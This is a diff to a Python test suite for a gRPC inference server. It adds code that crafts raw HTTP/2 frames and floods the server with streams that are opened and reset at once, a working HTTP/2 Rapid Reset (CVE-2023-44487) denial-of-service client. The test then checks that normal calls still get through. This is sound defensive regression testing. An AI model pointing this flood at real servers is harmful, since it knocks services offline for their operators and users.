@@ -1,10 +1,13 @@
 """The gRPC port of a server is shared by its workers, bounded, encrypted, and drained with HTTP."""
 
 import signal
+import socket
+import struct
 import subprocess
 import sys
 import threading
 from collections.abc import Callable
+from contextlib import suppress
 from dataclasses import replace
 from pathlib import Path
 from typing import Any
@@ -168,6 +171,52 @@ def test_messages_that_never_come_do_not_keep_others_out(
         assert stub.ModelInfer(request, timeout=30).outputs
         assert {call.exception(30).code() for call in waiting} == {grpc.StatusCode.CANCELLED}
         ended.set()
+
+
+def http2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """Return a frame of RFC 9113, section 4.1."""
+    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload
+
+
+def begun_and_reset(stream: int) -> bytes:
+    """Return a call that is reset at once: HEADERS (as literals of RFC 7541, section 6.2.2), then RST_STREAM."""
+    fields = {
+        b":method": b"POST",
+        b":scheme": b"http",
+        b":path": b"/inference.GRPCInferenceService/ModelInfer",
+        b":authority": b"x",
+        b"content-type": b"application/grpc",
+        b"te": b"trailers",
+    }
+    block = b"".join(b"\0%c%b%c%b" % (len(name), name, len(text), text) for name, text in fields.items())
+    return http2_frame(1, 4, stream, block) + http2_frame(3, 0, stream, struct.pack(">I", 8))
+
+
+def test_a_client_that_resets_its_calls_at_once_keeps_nobody_out(
+    tmp_path: Path, endpoints: dict[str, Any], calling: Callable[..., Any], asking: Any
+) -> None:
+    """https://nvd.nist.gov/vuln/detail/CVE-2023-44487"""
+    is_over = threading.Event()
+
+    def flood(host: str, port: str) -> None:
+        while not is_over.is_set():
+            with suppress(OSError), socket.create_connection((host, int(port)), timeout=5) as connection:
+                connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + http2_frame(4, 0, 0))
+                for first in range(1, 2**20, 100):
+                    if is_over.is_set():
+                        break
+                    connection.sendall(b"".join(map(begun_and_reset, range(first, first + 100, 2))))
+
+    with calling(tmp_path, endpoints) as called, called.client() as client:
+        flooding = threading.Thread(target=flood, args=called.address.split(":"))
+        flooding.start()
+        try:
+            for _ in range(200):
+                image = [asking.tensor("image", IMAGE)]
+                assert client.infer("tensor", image, client_timeout=20).as_numpy("total") == [4.0]
+        finally:
+            is_over.set()
+            flooding.join()
 
 
 def test_messages_beyond_the_limit_are_refused(
